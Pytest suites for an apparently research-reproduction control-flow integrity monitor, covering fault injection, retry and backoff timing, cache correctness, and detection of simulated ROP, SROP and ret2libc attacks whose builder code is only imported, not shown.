        assert sum(a.fired.values()) > 0

    def test_mangle_bit_identical(self):
        plan = FaultPlan(
            seed=11,
            corrupt_drain=FaultSite(probability=0.5),
            truncate_drain=FaultSite(probability=0.5),
        )
        payload = bytes(range(256)) * 4
        a, b = FaultInjector(plan), FaultInjector(plan)
        outs_a = [a.mangle(payload) for _ in range(50)]
        outs_b = [b.mangle(payload) for _ in range(50)]
        assert outs_a == outs_b
        assert any(events for _, events in outs_a)

    def test_sites_draw_independent_streams(self):
        """Extra consultations of one site never shift another's."""
        plan = FaultPlan(
            seed=11,
            corrupt_drain=FaultSite(probability=0.5),
            drop_pmi=FaultSite(probability=0.5),
        )
        a, b = FaultInjector(plan), FaultInjector(plan)
        for _ in range(25):
            b.fire("drop_pmi")
        assert [a.fire("corrupt_drain") for _ in range(50)] == [
            b.fire("corrupt_drain") for _ in range(50)
        ]

    def test_seed_perturbs_streams(self):
        base = FaultPlan(corrupt_drain=FaultSite(probability=0.5))
        a = FaultInjector(base.with_seed(1))
        b = FaultInjector(base.with_seed(2))
        assert [a.fire("corrupt_drain") for _ in range(64)] != [
            b.fire("corrupt_drain") for _ in range(64)
        ]

    def test_scheduled_site_fires_exactly_at_indices(self):
        plan = FaultPlan(worker_crash=FaultSite(at=(0, 2, 5)))
        inj = FaultInjector(plan)
        fired = [inj.fire("worker_crash") for _ in range(8)]
        assert fired == [True, False, True, False, False, True, False,
                         False]

    def test_limit_caps_firings_but_stream_advances(self):
        plan = FaultPlan(drop_pmi=FaultSite(probability=1.0, limit=2))
        inj = FaultInjector(plan)
        assert sum(inj.fire("drop_pmi") for _ in range(10)) == 2
        assert inj.fired["drop_pmi"] == 2
        assert inj.consulted["drop_pmi"] == 10

    def test_corrupt_stamp_is_loud_and_whole(self):
        """The stamp is a 16-byte 0xFF run — longer than any legal
        packet, so it can never hide inside one payload."""
        plan = FaultPlan(seed=1, corrupt_drain=FaultSite(probability=1.0))
        inj = FaultInjector(plan)
        payload = bytes(range(1, 241))  # no 0xFF anywhere
        mangled, events = inj.mangle(payload)
        assert events == ["corrupt-drain"]
        assert len(mangled) == len(payload)
        assert b"\xff" * 16 in bytes(mangled)

    def test_plan_round_trips_and_rejects_unknown_keys(self):
        plan = FaultPlan.standard_mix(seed=9)
        restored = FaultPlan.from_dict(json.loads(json.dumps(plan.to_dict())))
        assert restored == plan
        with pytest.raises(ValueError):
            FaultPlan.from_dict({"seed": 1, "bogus": {}})
        assert plan.with_seed(3).seed == 3
        assert plan.with_seed(3) != plan


class TestRetryPolicy:
    """delay(n) = min(cap, base * factor**(n-1)), to the cycle."""

    def test_delay_closed_form(self):
        policy = RetryPolicy(
            max_attempts=8, backoff_base=500.0, backoff_factor=2.0,
            backoff_cap=60_000.0,
        )
        for n in range(1, 12):
            assert policy.delay(n) == min(60_000.0, 500.0 * 2.0 ** (n - 1))
        assert policy.schedule() == [policy.delay(i) for i in range(1, 8)]
        assert policy.schedule(3) == [500.0, 1000.0, 2000.0]
        with pytest.raises(ValueError):
            policy.delay(0)

    def test_cap_bites(self):
        policy = RetryPolicy(
            backoff_base=500.0, backoff_factor=10.0, backoff_cap=5000.0
        )
        assert policy.schedule(4) == [500.0, 5000.0, 5000.0, 5000.0]

    @pytest.mark.parametrize(
        "kwargs",
        [
            {"max_attempts": 0},
            {"backoff_base": -1.0},
            {"backoff_cap": -2.0},
            {"backoff_factor": 0.5},
            {"task_timeout": -1.0},
            {"hedge_delay": -1.0},
        ],
    )
    def test_validation(self, kwargs):
        with pytest.raises(ValueError):
            RetryPolicy(**kwargs)

    def test_round_trip_and_unknown_keys(self):
        policy = RetryPolicy(
            max_attempts=5, backoff_base=10.0, backoff_factor=3.0,
            backoff_cap=90.0, task_timeout=2000.0, hedge_delay=250.0,
            dead_letter_quarantine=False,
        )
        restored = RetryPolicy.from_dict(
            json.loads(json.dumps(policy.to_dict()))
        )
        assert restored == policy
        with pytest.raises(ValueError):
            RetryPolicy.from_dict({"max_attempts": 2, "bogus": 1})


def _task(slices=(100.0,), serial=50.0):
    return CheckTask(
        task_id=0, pid=1, kind="endpoint", syscall_nr=0,
        enqueued_at=0.0, slices=list(slices), serial_cycles=serial,
    )


def _dispatcher(pool, plan, policy):
    return FleetDispatcher(
        pool, retry=policy, injector=FaultInjector(plan),
        degradations=DegradationLedger(),
    )


class TestDispatcherRecovery:
    """Dispatch times under scheduled faults, asserted to the cycle."""

    def test_crash_retry_timing_exact(self):
        pool = SimulatedWorkerPool(2)
        plan = FaultPlan(
            seed=1, worker_crash=FaultSite(at=(0,)), crash_fraction=0.5
        )
        policy = RetryPolicy(
            max_attempts=3, backoff_base=100.0, backoff_factor=2.0,
            backoff_cap=1000.0,
        )
        d = _dispatcher(pool, plan, policy)
        task = _task()  # cost 150
        d._dispatch_with_recovery(task)
        # The crash burns crash_fraction * cost = 75 cycles ending at
        # t=75; the retry waits delay(1)=100 and runs 150 from t=175.
        assert d.retry_cycles == 75.0
        assert task.attempts == 2
        assert task.started_at == 175.0
        assert task.finished_at == 325.0
        assert d.degradations.count("worker-crash") == 1
        assert d.degradations.count("retry") == 1
        assert d.degradations.count("hedge") == 0

    def test_hedged_hang_timing_exact(self):
        pool = SimulatedWorkerPool(2)
        plan = FaultPlan(seed=1, worker_hang=FaultSite(at=(0,)))
        policy = RetryPolicy(
            max_attempts=2, task_timeout=200.0, hedge_delay=30.0,
            backoff_base=100.0,
        )
        d = _dispatcher(pool, plan, policy)
        task = _task()
        d._dispatch_with_recovery(task)
        # The wedged attempt burns the 200-cycle watchdog on the
        # degraded lane (worker 1); the hedge re-issues the check at
        # t=30 on worker 0 and finishes at 180 — before the watchdog
        # would even have fired.  The burn still accrues.
        assert d.retry_cycles == 200.0
        assert task.finished_at == 180.0
        assert pool.busy_cycles == [150.0, 200.0]
        assert d.degradations.count("task-timeout") == 1
        assert d.degradations.count("hedge") == 1
        assert d.degradations.count("retry") == 0

    def test_unhedged_hang_waits_out_backoff(self):
        pool = SimulatedWorkerPool(2)
        plan = FaultPlan(seed=1, worker_hang=FaultSite(at=(0,)))
        policy = RetryPolicy(
            max_attempts=2, task_timeout=200.0, backoff_base=100.0
        )
        d = _dispatcher(pool, plan, policy)
        task = _task()
        d._dispatch_with_recovery(task)
        # hedge_delay=0: classic backoff from the failure time —
        # timeout at 200, delay(1)=100, then the 150-cycle check.
        assert task.finished_at == 450.0
        assert d.degradations.count("retry") == 1
        assert d.degradations.count("hedge") == 0

    def test_dead_letter_after_exhausted_attempts(self):
        pool = SimulatedWorkerPool(2)
        plan = FaultPlan(
            seed=1, worker_crash=FaultSite(at=(0, 1, 2)),
            crash_fraction=0.5,
        )
        policy = RetryPolicy(
            max_attempts=3, backoff_base=10.0, backoff_factor=2.0,
            backoff_cap=1000.0,
        )
        d = _dispatcher(pool, plan, policy)
        task = _task()  # cost 150
        d._dispatch_with_recovery(task)
        assert task.dead_lettered
        assert task.attempts == 3
        assert d.retry_cycles == pytest.approx(225.0)  # 3 * 75
        assert d.dead_letter_cycles == 150.0  # charged, never ran
        letter = d.dead_letters[0]
        assert letter.kind == "worker-crash"
        assert letter.attempts == 3
        assert letter.last_fault == ",".join(["worker-crash"] * 3)
        assert d.degradations.count("worker-crash") == 3
        assert d.degradations.count("dead-letter") == 1
        ledger = d.ledger()
        # No productive work ever ran: everything busy was wasted.
        assert ledger["busy_cycles"] == pytest.approx(
            ledger["retry_cycles"]
        )
        assert ledger["dead_letter_cycles"] == 150.0


class TestDegradedLane:
    """Expensive recovery work serializes on one worker (bulkhead)."""

    def test_degraded_task_serializes_on_one_worker(self):
        pool = SimulatedWorkerPool(2)
        task = _task((50.0, 50.0), serial=20.0)
        task.degraded = True
        assert pool.dispatch(task) == 120.0
        assert pool.free_at == [0.0, 120.0]
        assert pool.busy_cycles == [0.0, 120.0]
        assert pool.tasks_run == [0, 1]

    def test_normal_task_spreads(self):
        pool = SimulatedWorkerPool(2)
        task = _task((50.0, 50.0), serial=20.0)
        assert pool.dispatch(task) == 70.0
        assert pool.busy_cycles == [70.0, 50.0]

    def test_lane_picks_most_loaded_worker(self):
        pool = SimulatedWorkerPool(3)
        pool.free_at = [10.0, 30.0, 20.0]
        assert pool._latest() == 1
        pool.free_at = [10.0, 30.0, 30.0]
        assert pool._latest() == 2  # ties: highest index

    def test_consecutive_degraded_tasks_queue_behind_each_other(self):
        pool = SimulatedWorkerPool(2)
        for task_id in range(2):
            task = _task((100.0,), serial=0.0)
            task.task_id = task_id
            task.degraded = True
            pool.dispatch(task)
        assert pool.free_at == [0.0, 200.0]


class TestCorruptSegmentNeverCached:
    """Drain corruption degrades the check, never poisons the cache."""

    def test_cache_never_stores_undecodable_segment(self):
        cache = SegmentDecodeCache(8)
        segment = PSB_PATTERN + b"\xff" * 16
        for _ in range(2):
            with pytest.raises(PacketError):
                cache.decode_segment(segment)
        assert len(cache) == 0
        assert cache.hits == 0

    def test_corrupt_segment_bypasses_cache_and_resyncs(
        self, pipeline, trace
    ):
        data, image = trace
        offsets = psb_offsets(data)
        assert len(offsets) >= 3
        mid = len(offsets) // 2
        bounds = offsets + [len(data)]
        begin, end = offsets[mid], bounds[mid + 1]
        assert end - begin > 32
        pos = begin + (end - begin - 16) // 2
        corrupt = data[:pos] + b"\xff" * 16 + data[pos + 16:]
        ledger = DegradationLedger()
        cache = SegmentDecodeCache(SEG_ENTRIES)
        index = FlowSearchIndex(
            pipeline.labeled, edge_cache_entries=EDGE_ENTRIES
        )
        # A huge pkt_count forces the backward scan all the way down to
        # the corrupted segment.
        checker = FastPathChecker(
            index, image, pkt_count=10**6,
            require_cross_module=False, require_executable=False,
            segment_cache=cache, ledger=ledger,
        )
        records, _, _, start = checker.decode_tail(corrupt)
        assert checker.last_corrupt_segments == 1
        # The scan re-synced at the PSB *after* the corruption.
        assert start == offsets[mid + 1]
        assert records
        # The corrupted segment's hash is not resident...
        key = hashlib.blake2b(
            corrupt[begin:end], digest_size=16
        ).digest()
        assert key not in cache._store
        # ...and everything resident is one of the clean segments that
        # follow the corruption.
        clean = {
            hashlib.blake2b(
                corrupt[bounds[i]:bounds[i + 1]], digest_size=16
            ).digest()
            for i in range(mid + 1, len(offsets))
        }
        assert set(cache._store) <= clean
        assert ledger.count("corrupt-segment") == 1
        assert ledger.count("cache-bypass") == 1
        assert ledger.count("psb-resync") == 1

    def test_corruption_never_fabricates_violation(self, pipeline, trace):
        data, image = trace
        offsets = psb_offsets(data)
        cache = SegmentDecodeCache(SEG_ENTRIES)
        index = FlowSearchIndex(
            pipeline.labeled, edge_cache_entries=EDGE_ENTRIES
        )
        checker = FastPathChecker(
            index, image, pkt_count=12,
            require_cross_module=False, require_executable=False,
            segment_cache=cache,
        )
        # Corrupt every segment head in turn; no cut may conjure a
        # violation out of a benign trace.
        for begin in offsets:
            corrupt = data[:begin + 16] + b"\xff" * 16 + data[begin + 32:]
            result = checker.check(corrupt)
            assert result.verdict is not Verdict.VIOLATION


class TestFallbackOracle:
    """A fast path that dies mid-check downgrades to the slow path,
    whose verdict stands: clean traffic passes, attacks still die."""

    ALWAYS_FALLBACK = dict(
        seed=3, fastpath_error=FaultSite(probability=1.0)
    )

    def _deploy(self, pipeline, faults=None, request=None, pushes=1):
        kernel = Kernel()
        kernel.fs.create("/index.html", b"<html>x</html>")
        monitor, proc = pipeline.deploy(kernel, faults=faults)
        for _ in range(pushes):
            proc.push_connection(request or nginx_request("/index.html"))
        kernel.run(proc)
        return monitor, proc

    def test_clean_traffic_passes_through_fallback(self, pipeline):
        plan = FaultPlan(**self.ALWAYS_FALLBACK)
        monitor, proc = self._deploy(pipeline, faults=plan, pushes=3)
        pp = monitor.protected_for(proc)
        assert proc.state is ProcessState.EXITED
        assert monitor.detections == []
        assert pp.stats.slow_path_runs > 0
        assert (
            monitor.degradations.count("slowpath-fallback")
            >= pp.stats.slow_path_runs
        )

    def test_rop_detected_via_slow_path(self, pipeline, recon):
        rop = build_rop_request(recon)
        base_monitor, base_proc = self._deploy(pipeline, request=rop)
        plan = FaultPlan(**self.ALWAYS_FALLBACK)
        monitor, proc = self._deploy(pipeline, faults=plan, request=rop)
        assert base_monitor.detections
        assert base_monitor.detections[0].path == "fast"
        assert base_proc.state is ProcessState.KILLED
        assert monitor.detections, "fallback masked the attack"
        assert monitor.detections[0].path == "slow"
        assert proc.state is ProcessState.KILLED
        # Same enforcement point as the fast-path baseline.
        assert (
            monitor.detections[0].syscall_nr
            == base_monitor.detections[0].syscall_nr
        )


class TestMonitorUnderFaults:
    """Solo monitor under a hostile mix: reproducible, no false
    positives, ledger reconciled."""

    PLAN = dict(
        corrupt_drain=FaultSite(probability=0.5),
        truncate_drain=FaultSite(probability=0.5),
        drop_pmi=FaultSite(probability=0.5),
        delay_pmi=FaultSite(probability=0.5),
        fastpath_error=FaultSite(probability=0.2),
    )

    def _faulted_run(self, pipeline, seed):
        kernel = Kernel()
        kernel.fs.create("/index.html", b"<html>x</html>")
        monitor, proc = pipeline.deploy(
            kernel, faults=FaultPlan(seed=seed, **self.PLAN)
        )
        for _ in range(3):
            proc.push_connection(nginx_request("/index.html"))
        kernel.run(proc)
        pp = monitor.protected_for(proc)
        return monitor, proc, pp

    def _digest(self, monitor, proc, pp):
        return (
            monitor.fault_injector.stats(),
            monitor.degradations.counts(),
            [e.kind for e in monitor.degradations.events],
            pp.stats.total_cycles,
            len(monitor.detections),
            proc.state,
        )

    def test_same_plan_same_run(self, pipeline):
        first = self._digest(*self._faulted_run(pipeline, 21))
        second = self._digest(*self._faulted_run(pipeline, 21))
        assert first == second

    def test_no_false_positives_under_heavy_mix(self, pipeline):
        monitor, proc, _ = self._faulted_run(pipeline, 21)
        assert monitor.detections == []
        assert proc.state is ProcessState.EXITED
        assert sum(monitor.fault_injector.stats()["fired"].values()) > 0
        assert len(monitor.degradations) > 0

    def test_solo_ledger_reconciles_with_counters(self, pipeline):
        with telemetry.capture() as tel:
            monitor, _, _ = self._faulted_run(pipeline, 21)
            report = monitor.degradations.reconcile(tel.metrics)
        assert len(monitor.degradations) > 0
        assert report["exact"], report


class TestDegradationLedger:
    def test_unknown_kind_rejected(self):
        with pytest.raises(ValueError):
            DegradationLedger().record("nope")

    def test_reconciles_counters_and_retry_cycles(self):
        with telemetry.capture():
            ledger = DegradationLedger()
            ledger.record("retry", cycles=100.0)
            ledger.record("hedge")
            ledger.record("worker-crash", cycles=50.0)
            assert ledger.reconcile(retry_cycles=150.0)["exact"]
            assert not ledger.reconcile(retry_cycles=151.0)["exact"]

    def test_counter_only_drift_flagged(self):
        with telemetry.capture() as tel:
            ledger = DegradationLedger()
            ledger.record("retry")
            tel.metrics.counter("resilience.events").inc(kind="hedge")
            report = ledger.reconcile()
        assert report["counter_only"] == 1
        assert not report["exact"]


class TestFleetUnderFaults:
    """Whole-fleet runs under the standard mix: reproducible schedules
    and exact reconciliation across every ledger."""

    @staticmethod
    def _run_faulted_fleet():
        from repro.experiments.common import (
            seed_server_fs,
            server_pipeline,
            server_requests,
        )

        config = FleetConfig(
            workers=2,
            ring_policy=RingPolicy.LOSSY,
            ring_bytes=8192,
            faults=FaultPlan.standard_mix(seed=13),
            retry=RetryPolicy(
                max_attempts=4, task_timeout=2000.0, backoff_base=50.0,
                backoff_cap=400.0, hedge_delay=250.0,
            ),
        )
        with telemetry.capture():
            service = FleetService(config)
            seed_server_fs(service.kernel)
            for name in ("nginx", "nginx"):
                service.add_workload(
                    server_pipeline(name), server_requests(name, 1)
                )
            result = service.run()
            reconciliation = service.reconcile()
        schedule = [
            (t.pid, t.kind, t.verdict, t.degraded, t.attempts,
             t.finished_at)
            for t in service.dispatcher.tasks
        ]
        return result, reconciliation, schedule

    def test_faulted_fleet_reproducible_and_reconciled(self):
        first, rec_first, sched_first = self._run_faulted_fleet()
        second, rec_second, sched_second = self._run_faulted_fleet()
        assert sched_first == sched_second
        assert first.resilience["faults"] == second.resilience["faults"]
        assert sum(first.resilience["faults"]["fired"].values()) > 0
        assert rec_first["exact"] and rec_second["exact"]
        assert first.accounting["exact"]
        assert first.resilience["ledger_reconcile"]["exact"]
        # Clean workload: degrade, never quarantine.
        assert not first.quarantines
        assert all(p["state"] == "exited" for p in first.processes)


SRC = Path(__file__).resolve().parent.parent / "src"


class TestPublicFacade:
    """repro.api is the stable surface; the package-root shims warn."""

    def test_api_imports_clean_under_deprecation_errors(self):
        env = dict(os.environ)
        env["PYTHONPATH"] = str(SRC)
        proc = subprocess.run(
            [sys.executable, "-W", "error::DeprecationWarning",
             "-c", "import repro.api"],
            capture_output=True, text=True, env=env,
        )
        assert proc.returncode == 0, proc.stderr

    def test_package_root_access_warns(self):
        import repro.fleet
        import repro.monitor

        with pytest.deprecated_call():
            repro.fleet.FleetConfig
        with pytest.deprecated_call():
            repro.monitor.FlowGuardPolicy

    def test_shim_resolves_to_canonical_object(self):
        import repro.fleet as fleet_root

        with pytest.deprecated_call():
            shimmed = fleet_root.FleetConfig
        assert shimmed is FleetConfig

    def test_unknown_attribute_raises(self):
        import repro.fleet

        with pytest.raises(AttributeError):
            repro.fleet.NotAThing

    def test_run_config_round_trips_through_json(self):
        config = RunConfig(
            policy=FlowGuardPolicy(segment_cache_entries=128),
            fleet=FleetConfig(
                workers=3,
                ring_policy=RingPolicy.LOSSY,
                faults=FaultPlan.standard_mix(seed=9),
                retry=RetryPolicy(task_timeout=123.0, hedge_delay=7.0),
            ),
        )
        restored = RunConfig.from_dict(
            json.loads(json.dumps(config.to_dict()))
        )
        assert restored.to_dict() == config.to_dict()
        assert restored.fleet.faults == config.fleet.faults
        assert restored.fleet.retry == config.fleet.retry

    def test_run_config_rejects_unknown_keys(self):
        with pytest.raises(ValueError):
            RunConfig.from_dict({"bogus": 1})
