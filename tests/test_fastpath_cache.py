"""Fast-path caching correctness: incremental tail decode, the
content-addressed segment cache, and the edge-verdict memo.

The contract under test is *bit-identical verdicts*: caching changes
what the fast path costs, never what it concludes.  The suite checks
the new incremental ``decode_tail`` against a reimplementation of the
old full-redecode loop, verdict/window parity with caches on vs off
(including the full attack matrix), the invalidation rules (truncated
segments are never cached; ``promote`` drops stale edge memos), LRU
bounds, zero-copy slicing, and fleet-level verdict parity with an exact
cycle ledger.
"""

import pytest

from repro import telemetry
from repro.attacks import (
    build_flushing_request,
    build_retlib_request,
    build_rop_request,
    build_srop_request,
    run_recon,
)
from repro.fleet import FleetConfig, FleetService, RingPolicy
from repro.ipt import fast_decoder
from repro.ipt.fast_decoder import fast_decode, psb_offsets
from repro.ipt.packets import PSB_PATTERN
from repro.ipt.segment_cache import SegmentDecodeCache
from repro.itccfg import (
    CreditLabeledITC,
    CreditLevel,
    FlowSearchIndex,
    ITCCFG,
    ITCEdge,
)
from repro.monitor import FlowGuardPolicy
from repro.monitor.fastpath import FastPathChecker
from repro.osmodel import Kernel, ProcessState
from repro.pipeline import FlowGuardPipeline
from repro.workloads import (
    build_libsim,
    build_nginx,
    build_vdso,
    nginx_request,
)

LIBS = {"libsim.so": build_libsim()}

#: cache capacities used throughout — small enough to exercise eviction
#: in the bound tests, large enough for full reuse in the parity tests.
SEG_ENTRIES = 64
EDGE_ENTRIES = 1024


@pytest.fixture(scope="module")
def pipeline():
    return FlowGuardPipeline.offline(
        "nginx",
        build_nginx(),
        LIBS,
        vdso=build_vdso(),
        corpus=[
            nginx_request("/index.html"),
            nginx_request("/x", "POST", b"small-body"),
            nginx_request("/y", "HEAD"),
        ],
        mode="socket",
    )


@pytest.fixture(scope="module")
def recon():
    return run_recon(build_nginx(), LIBS, vdso=build_vdso())


@pytest.fixture(scope="module")
def trace(pipeline):
    """A real captured nginx ToPA snapshot plus the process image."""
    kernel = Kernel()
    kernel.fs.create("/index.html", b"<html>x</html>")
    monitor, proc = pipeline.deploy(kernel)
    for _ in range(4):
        proc.push_connection(nginx_request("/index.html"))
    kernel.run(proc)
    pp = monitor.protected_for(proc)
    pp.encoder.flush()
    return bytes(pp.topa.snapshot()), proc.image


def snapshot_cuts(data, count=10):
    """Growing prefixes of a trace: the shape of consecutive endpoint
    checks on a filling ring (cuts land mid-packet freely)."""
    step = max(64, len(data) // count)
    return list(range(step, len(data), step)) + [len(data)]


def make_checker(pipeline, image, cached, **kwargs):
    cache = SegmentDecodeCache(SEG_ENTRIES) if cached else None
    index = FlowSearchIndex(
        pipeline.labeled,
        edge_cache_entries=EDGE_ENTRIES if cached else 0,
    )
    checker = FastPathChecker(
        index, image, pkt_count=kwargs.pop("pkt_count", 12),
        require_cross_module=False, require_executable=False,
        segment_cache=cache, **kwargs,
    )
    return checker, cache, index


def fingerprint(result):
    """Everything verdict-relevant about a FastPathResult — costs and
    probe counts excluded, the cache is allowed to change those."""
    return (
        result.verdict.value,
        result.checked_pairs,
        tuple(result.low_credit_pairs),
        result.violation_edge,
        result.window_offset,
        tuple(
            (r.ip, r.tnt_before, r.offset, r.after_far)
            for r in result.window
        ),
        tuple(
            (p.kind.value, p.offset, p.bits, p.ip)
            for p in result.packets
        ),
    )


def reference_decode_tail(checker, data):
    """The pre-incremental decode_tail: re-decodes ``data[start:]`` for
    every candidate start.  Kept here as the behavioral oracle."""
    offsets = psb_offsets(data)
    if not offsets:
        return [], [], 0.0, len(data)
    for start in reversed(offsets):
        result = fast_decode(data[start:]).rebased(start)
        records = result.tip_records()
        if len(records) > checker.pkt_count and checker._spans_modules(
            records
        ):
            return records, result.packets, result.cycles, start
    result = fast_decode(data[offsets[0]:]).rebased(offsets[0])
    return result.tip_records(), result.packets, result.cycles, offsets[0]


class TestIncrementalDecodeTail:
    """The rewritten decode_tail is observationally identical to the
    old quadratic loop — records, packets, charged cycles, start."""

    def test_matches_reference_on_trace_cuts(self, pipeline, trace):
        data, image = trace
        checker, _, _ = make_checker(pipeline, image, cached=False)
        for cut in snapshot_cuts(data):
            got = checker.decode_tail(data[:cut])
            want = reference_decode_tail(checker, data[:cut])
            assert got[0] == want[0], f"records differ at cut {cut}"
            assert got[1] == want[1], f"packets differ at cut {cut}"
            assert got[2] == pytest.approx(want[2]), (
                f"cycles differ at cut {cut}"
            )
            assert got[3] == want[3], f"start differs at cut {cut}"

    def test_matches_reference_with_module_requirements(
        self, pipeline, trace
    ):
        data, image = trace
        checker, _, _ = make_checker(pipeline, image, cached=False)
        checker.require_cross_module = True
        checker.require_executable = True
        for cut in snapshot_cuts(data, count=5):
            got = checker.decode_tail(data[:cut])
            want = reference_decode_tail(checker, data[:cut])
            assert got[0] == want[0]
            assert got[2] == pytest.approx(want[2])
            assert got[3] == want[3]

    def test_empty_and_psb_free_input(self, pipeline, trace):
        _, image = trace
        checker, _, _ = make_checker(pipeline, image, cached=False)
        assert checker.decode_tail(b"") == ([], [], 0.0, 0)
        assert checker.decode_tail(b"\x00" * 16) == ([], [], 0.0, 16)


class TestVerdictParity:
    """Caches on vs off produce bit-identical FastPathResults."""

    def test_snapshot_series_identical(self, pipeline, trace):
        data, image = trace
        plain, _, _ = make_checker(pipeline, image, cached=False)
        cached, cache, _ = make_checker(pipeline, image, cached=True)
        cuts = snapshot_cuts(data)
        base = [fingerprint(plain.check(data[:cut])) for cut in cuts]
        # Two passes so the second is hit-dominated.
        for _ in range(2):
            warm = [fingerprint(cached.check(data[:cut])) for cut in cuts]
            assert warm == base
        assert cache.hits > 0

    def test_cache_shared_across_checkers(self, pipeline, trace):
        """Two checkers sharing one cache (the fleet shape): the second
        checker's identical snapshot decodes entirely from cache."""
        data, image = trace
        cache = SegmentDecodeCache(SEG_ENTRIES)
        results = []
        for _ in range(2):
            index = FlowSearchIndex(pipeline.labeled)
            checker = FastPathChecker(
                index, image, pkt_count=12,
                require_cross_module=False, require_executable=False,
                segment_cache=cache,
            )
            results.append(fingerprint(checker.check(data)))
        assert results[0] == results[1]
        assert cache.hits > 0


SECURITY_MATRIX = [
    ("rop", build_rop_request),
    ("srop", build_srop_request),
    ("retlib", build_retlib_request),
    ("flushing", build_flushing_request),
]


class TestSecurityMatrixParity:
    """Every attack in the §7.1.2 matrix is detected identically with
    the caches enabled — same endpoints, same process fate."""

    @pytest.mark.parametrize(
        "name,build", SECURITY_MATRIX, ids=[n for n, _ in SECURITY_MATRIX]
    )
    def test_attack_detected_identically(
        self, name, build, pipeline, recon
    ):
        outcomes = []
        for policy in (
            None,
            FlowGuardPolicy(
                segment_cache_entries=SEG_ENTRIES,
                edge_cache_entries=EDGE_ENTRIES,
            ),
        ):
            kernel = Kernel()
            kernel.fs.create("/index.html", b"<html>x</html>")
            monitor, proc = pipeline.deploy(kernel, policy=policy)
            proc.push_connection(build(recon))
            kernel.run(proc)
            outcomes.append(
                (
                    [d.syscall_nr for d in monitor.detections],
                    proc.state,
                )
            )
        detections, state = outcomes[0]
        assert detections, f"{name} went undetected on the baseline"
        assert state is ProcessState.KILLED
        assert outcomes[1] == outcomes[0], (
            f"{name}: cached run diverged from uncached"
        )

    def test_benign_traffic_passes_with_caches(self, pipeline):
        kernel = Kernel()
        kernel.fs.create("/index.html", b"<html>x</html>")
        policy = FlowGuardPolicy(
            segment_cache_entries=SEG_ENTRIES,
            edge_cache_entries=EDGE_ENTRIES,
        )
        monitor, proc = pipeline.deploy(kernel, policy=policy)
        conns = [
            proc.push_connection(nginx_request("/index.html"))
            for _ in range(5)
        ]
        kernel.run(proc)
        assert proc.state is ProcessState.EXITED
        assert monitor.detections == []
        for conn in conns:
            assert bytes(conn.outbound).startswith(b"HTTP/1.1 200")
        stats = monitor.cache_stats()
        assert stats["segment"]["hits"] > 0


class TestTruncatedNeverCached:
    def test_truncated_segment_not_stored(self):
        cache = SegmentDecodeCache(8)
        # TIP header declaring a 4-byte IP payload, only 2 bytes present.
        segment = PSB_PATTERN + bytes([0x0D, 4, 1, 2])
        for _ in range(3):
            seg = cache.decode_segment(segment)
            assert seg.truncated
        assert len(cache) == 0
        assert cache.misses == 3
        assert cache.hits == 0

    def test_truncated_rebase_applied(self):
        cache = SegmentDecodeCache(8)
        segment = PSB_PATTERN + bytes([0x0D, 4, 1, 2])
        seg = cache.decode_segment(segment, base=100)
        assert seg.packets[0].offset == 100  # the PSB itself

    def test_completed_segment_cached_after_fill(self):
        """Once the ring fills in the missing bytes, the now-complete
        segment hashes differently and is cached normally."""
        cache = SegmentDecodeCache(8)
        truncated = PSB_PATTERN + bytes([0x0D, 2, 1])
        complete = PSB_PATTERN + bytes([0x0D, 2, 1, 2])
        cache.decode_segment(truncated)
        assert len(cache) == 0
        first = cache.decode_segment(complete)
        assert not first.truncated
        assert len(cache) == 1
        again = cache.decode_segment(complete)
        assert cache.hits == 1
        assert [
            (r.ip, r.tnt_before, r.offset, r.after_far)
            for r in again.records
        ] == [
            (r.ip, r.tnt_before, r.offset, r.after_far)
            for r in first.records
        ]


class TestPromoteInvalidation:
    def make_labeled(self):
        itc = ITCCFG()
        itc.nodes = {0x100, 0x200, 0x300}
        itc.add_edge(ITCEdge(0x100, 0x200, 0x110))
        itc.add_edge(ITCEdge(0x200, 0x300, 0x210))
        itc.add_edge(ITCEdge(0x100, 0x300, 0x120))
        labeled = CreditLabeledITC(itc=itc)
        labeled.observe_trace([(0x100, ()), (0x200, (True,))])
        return labeled

    def test_promote_invalidates_memo(self):
        index = FlowSearchIndex(self.make_labeled(), edge_cache_entries=8)
        first = index.check_edge(0x100, 0x300)
        assert first.credit is CreditLevel.LOW
        memoized = index.check_edge(0x100, 0x300)
        assert memoized.credit is CreditLevel.LOW
        assert index.memo_hits == 1
        index.promote(0x100, 0x300)
        # Without invalidation the stale LOW memo would be returned.
        after = index.check_edge(0x100, 0x300)
        assert after.in_graph
        assert after.credit is CreditLevel.HIGH
        assert index.memo_invalidations == 1

    def test_promote_only_invalidates_promoted_edge(self):
        index = FlowSearchIndex(self.make_labeled(), edge_cache_entries=8)
        index.check_edge(0x100, 0x300)
        index.check_edge(0x200, 0x300)
        index.promote(0x100, 0x300)
        assert index.memo_invalidations == 1
        index.check_edge(0x200, 0x300)
        assert index.memo_hits == 1  # the other memo survived

    def test_memoized_verdicts_match_uncached(self):
        plain = FlowSearchIndex(self.make_labeled())
        memo = FlowSearchIndex(self.make_labeled(), edge_cache_entries=8)
        edges = [
            (0x100, 0x200, (True,)),
            (0x100, 0x200, (False,)),
            (0x100, 0x300, ()),
            (0x200, 0x300, ()),
            (0x300, 0x100, ()),
            (0xDEAD, 0xBEEF, ()),
        ]
        for _ in range(2):  # second pass is all memo hits
            for src, dst, tnt in edges:
                want = plain.check_edge(src, dst, tnt)
                got = memo.check_edge(src, dst, tnt)
                assert (got.in_graph, got.credit, got.tnt_ok) == (
                    want.in_graph, want.credit, want.tnt_ok
                )
        assert memo.memo_hits == len(edges)


class TestLRUBounds:
    def test_segment_cache_bounded(self):
        cache = SegmentDecodeCache(entries=4)
        segments = [PSB_PATTERN + b"\x00" * i for i in range(6)]
        for segment in segments:
            cache.decode_segment(segment)
        assert len(cache) == 4
        assert cache.evictions == 2
        # The oldest two were evicted; re-probing them misses.
        misses = cache.misses
        cache.decode_segment(segments[0])
        assert cache.misses == misses + 1
        # The newest is still resident.
        cache.decode_segment(segments[-1])
        assert cache.hits == 1

    def test_segment_cache_lru_order(self):
        cache = SegmentDecodeCache(entries=2)
        a, b, c = (PSB_PATTERN + b"\x00" * i for i in range(3))
        cache.decode_segment(a)
        cache.decode_segment(b)
        cache.decode_segment(a)  # refresh a
        cache.decode_segment(c)  # evicts b, not a
        assert cache.evictions == 1
        hits = cache.hits
        cache.decode_segment(a)
        assert cache.hits == hits + 1

    def test_segment_cache_rejects_zero_entries(self):
        with pytest.raises(ValueError):
            SegmentDecodeCache(entries=0)

    def test_edge_memo_bounded(self):
        labeled = TestPromoteInvalidation().make_labeled()
        index = FlowSearchIndex(labeled, edge_cache_entries=2)
